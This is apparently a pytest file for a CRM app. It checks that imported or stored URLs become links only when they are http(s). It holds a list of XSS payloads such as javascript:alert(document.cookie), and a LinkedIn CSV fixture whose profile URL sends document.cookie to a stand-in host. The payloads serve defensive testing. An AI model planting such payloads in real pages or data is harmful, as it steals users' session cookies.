"""A URL typed or imported becomes a link only when it is http(s) (crm.core.links.http_url):
never `<a href="javascript:…">` on a page a manager opens."""
import re

import pytest

from crm.core.links import http_url
from tests import factories
from tests.test_imports_support import import_storage, run_id, upload_dm  # noqa: F401

HOSTILE = ["javascript:alert(document.cookie)", " JavaScript:alert(1)", "java\tscript:alert(1)",
           "\x01javascript:alert(1)", "data:text/html,<script>alert(1)</script>",
           "vbscript:msgbox(1)", "//evil.example/x", "/relative/path", "mailto:a@b.example",
           "https:alert(1)", "http://[::1", ""]


@pytest.mark.parametrize("value", HOSTILE)
def test_only_absolute_http_urls_are_links(value):
    assert http_url(value) is None


@pytest.mark.parametrize("value", ["https://www.linkedin.com/in/jonas-berg/",
                                   "http://example.com/p?a=1&b=2", "HTTPS://X.COM/a"])
def test_http_urls_are_kept(value):
    assert http_url(value) == value
    assert http_url(f"  {value}\n") == value


LINKEDIN = ("CONVERSATION ID,CONVERSATION TITLE,FROM,SENDER PROFILE URL,TO,RECIPIENT PROFILE URLS,"
            "DATE,SUBJECT,CONTENT,FOLDER\n"
            "conv-A,,Mallory Evil,javascript:fetch('//x.example/'+document.cookie),Alex Rivera,"
            "https://www.linkedin.com/in/alex-rivera-photo,2021-04-01 09:30:00 UTC,,Hello,INBOX\n"
            "conv-A,,Alex Rivera,https://www.linkedin.com/in/alex-rivera-photo,Mallory Evil,"
            "javascript:fetch('//x.example/'+document.cookie),2021-04-01 10:30:00 UTC,,Hi,INBOX\n")


def links(page: str) -> list[str]:
    return re.findall(r'href="([^"]*)"', page)


def assert_only_safe_links(page: str):
    unsafe = [h for h in links(page)
              if not h.startswith(("/", "#", "?", "https://", "http://", "mailto:"))]
    assert unsafe == []


def test_a_javascript_profile_url_in_a_linkedin_export_is_not_a_link(auth, manager, tmp_path):
    client = auth.login(manager)
    export = tmp_path / "export"
    export.mkdir()
    (export / "messages.csv").write_text(LINKEDIN)
    rid = run_id(upload_dm(client, export))
    client.post(f"/imports/{rid}/me", data={"me": "Alex Rivera"})
    page = client.get(f"/imports/{rid}").get_data(as_text=True)
    assert "Mallory Evil" in page
    assert_only_safe_links(page)


def test_a_stored_profile_url_that_is_not_http_is_not_a_link(auth, rep):
    contact = factories.ContactFactory(owner=rep)
    factories.HandleFactory(contact=contact, platform="linkedin", handle="mallory",
                            profile_url="javascript:alert(1)")
    factories.HandleFactory(contact=contact, platform="instagram", handle="maya.makes",
                            profile_url="https://www.instagram.com/maya.makes/")
    page = auth.login(rep).get(f"/contacts/{contact.id}").get_data(as_text=True)
    assert_only_safe_links(page)
    assert "https://www.instagram.com/maya.makes/" in links(page)


def test_a_deal_post_url_that_is_not_http_is_not_a_link(auth, rep):
    deal = factories.DealFactory(contact=factories.ContactFactory(owner=rep),
                                 post_type="Reel", posted_url="javascript:alert(1)")
    page = auth.login(rep).get(f"/deals/{deal.id}").get_data(as_text=True)
    assert "Reel" in page
    assert_only_safe_links(page)


def test_message_text_links_only_http_urls():
    from crm.conversations.text import linkify

    html = str(linkify("see javascript:alert(1) or http://) or https://ok.example/a."))
    assert links(html) == ["https://ok.example/a"]
